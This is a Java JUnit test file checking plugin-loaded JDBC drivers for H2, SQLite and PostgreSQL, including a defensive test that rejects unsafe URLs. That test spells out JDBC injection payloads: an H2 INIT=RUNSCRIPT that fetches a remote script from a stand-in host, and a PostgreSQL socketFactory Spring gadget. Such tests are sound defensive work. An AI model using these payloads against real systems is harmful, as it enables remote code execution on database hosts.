package dev.dbspec.host;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.dbspec.api.EngineSpec;
import dev.dbspec.api.UnsafeUrlException;
import dev.dbspec.testdb.TestDatabase;
import dev.dbspec.testdb.TestDatabases;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.sql.Statement;
import java.util.Optional;
import java.util.Properties;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;

/** Connections through plugin-loaded drivers, none of which is on the host class path. */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class PluginConnectionsTest {
    @TempDir
    static Path plugins;

    private DbspecHost host;

    @BeforeAll
    void startHost() {
        TestPluginJars.copyBuiltPlugins(plugins);
        host = DbspecHost.start(Optional.of(plugins), false);
    }

    @AfterAll
    void stopHost() {
        host.close();
    }

    @Test
    void driversAreNotOnTheHostClassPath() {
        for (String driver : new String[] {"org.h2.Driver", "org.sqlite.JDBC", "org.postgresql.Driver"}) {
            assertThatThrownBy(() -> Class.forName(driver)).as(driver).isInstanceOf(ClassNotFoundException.class);
        }
    }

    @Test
    void noDriverClassIsLoadedUntilAConnectionIsAskedFor() throws SQLException {
        try (DbspecHost fresh = DbspecHost.start(Optional.of(plugins), false)) {
            EngineSpec h2 = fresh.registry().resolve("h2");
            for (EngineSpec spec : fresh.registry().specs()) {
                spec.timeGrainExpressions();
                spec.datetimeLiterals();
                DriverStatus status = DriverStatus.of(fresh.registry().entry(spec.id()).orElseThrow());
                assertThat(status.present()).as(spec.id() + " driver present").isEqualTo(status.bundled());
                var loader = (dev.dbspec.host.plugins.DbspecPluginClassLoader) spec.getClass().getClassLoader();
                assertThat(loader.hasLoaded(spec.driverClassName())).as(spec.driverClassName() + " loaded early").isFalse();
            }
            try (Connection connection = Connections.open(h2, "jdbc:h2:mem:lazy", new Properties())) {
                assertThat(connection.isValid(1)).isTrue();
            }
            var loader = (dev.dbspec.host.plugins.DbspecPluginClassLoader) h2.getClass().getClassLoader();
            assertThat(loader.hasLoaded("org.h2.Driver")).isTrue();
        }
    }

    @Test
    void connectsToH2ThroughItsPlugin() throws SQLException {
        String url = "jdbc:h2:mem:plugin_test;DB_CLOSE_DELAY=-1";
        EngineSpec spec = host.registry().forUrl(url);
        assertThat(spec.id()).isEqualTo("h2");
        try (Connection connection = Connections.open(spec, url, new Properties())) {
            assertThat(connection.getClass().getClassLoader()).isSameAs(spec.getClass().getClassLoader());
            assertThat(queryString(connection, "SELECT H2VERSION()")).matches("2\\..*");
        }
    }

    @Test
    void connectsToSqliteThroughItsPlugin(@TempDir Path dir) throws SQLException {
        String url = "jdbc:sqlite:" + dir.resolve("test.db");
        EngineSpec spec = host.registry().forUrl(url);
        assertThat(spec.id()).isEqualTo("sqlite");
        try (Connection connection = Connections.open(spec, url, new Properties())) {
            assertThat(queryString(connection, "SELECT sqlite_version()")).matches("3\\..*");
        }
    }

    @Test
    void connectsToLivePostgresqlThroughItsPlugin() throws SQLException {
        TestDatabase database = TestDatabases.require("postgresql");
        EngineSpec spec = host.registry().forUrl(database.jdbcUrl());
        assertThat(spec.id()).isEqualTo("postgresql");
        Properties properties = new Properties();
        database.user().ifPresent(user -> properties.setProperty("user", user));
        database.password().ifPresent(password -> properties.setProperty("password", password));
        try (Connection connection = Connections.open(spec, database.jdbcUrl(), properties)) {
            assertThat(queryString(connection, "SELECT version()")).startsWith("PostgreSQL");
            assertThat(connection.getClass().getClassLoader()).isSameAs(spec.getClass().getClassLoader());
        }
    }

    @Test
    void dangerousUrlsAreRefusedBeforeConnecting() {
        EngineSpec h2 = host.registry().resolve("h2");
        assertThatThrownBy(() -> Connections.open(h2, "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://example.invalid/x.sql'", new Properties()))
                .isInstanceOf(UnsafeUrlException.class).hasMessageContaining("INIT");
        EngineSpec postgresql = host.registry().resolve("postgresql");
        assertThatThrownBy(() -> Connections.open(postgresql,
                "jdbc:postgresql://127.0.0.1/test?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
                new Properties()))
                .isInstanceOf(UnsafeUrlException.class).hasMessageContaining("socketFactory");
        Properties sneaky = new Properties();
        sneaky.setProperty("SocketFactory", "org.springframework.context.support.ClassPathXmlApplicationContext");
        assertThatThrownBy(() -> Connections.open(postgresql, "jdbc:postgresql://127.0.0.1/test", sneaky))
                .isInstanceOf(UnsafeUrlException.class).hasMessageContaining("SocketFactory");
    }

    @Test
    void aUrlTheDriverRejectsIsATypedError() {
        EngineSpec h2 = host.registry().resolve("h2");
        assertThatThrownBy(() -> Connections.open(h2, "jdbc:postgresql://localhost/x", new Properties()))
                .isInstanceOf(SQLException.class).hasMessageContaining("does not accept URL");
    }

    private static String queryString(Connection connection, String sql) throws SQLException {
        try (Statement statement = connection.createStatement(); ResultSet rs = statement.executeQuery(sql)) {
            assertThat(rs.next()).isTrue();
            return rs.getString(1);
        }
    }
}
